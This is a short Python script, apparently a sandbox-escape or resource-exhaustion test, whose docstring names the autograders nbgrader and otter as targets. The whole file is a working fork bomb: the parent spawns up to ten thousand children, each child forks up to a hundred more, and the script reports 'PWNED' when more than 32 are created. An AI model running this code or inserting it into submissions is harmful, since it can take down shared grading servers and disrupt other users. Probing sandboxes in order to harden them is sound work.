"""Forks as often as it can, and its children do.

against: nbgrader, otter
"""
import os
import time

made = 0
try:
    for _ in range(10_000):
        if os.fork() == 0:
            for _ in range(100):
                try:
                    os.fork()
                except OSError:
                    break
            time.sleep(30)
            os._exit(0)
        made += 1
except OSError:
    pass
print("TRIED", made)
if made > 32:
    print("PWNED", made, "children")
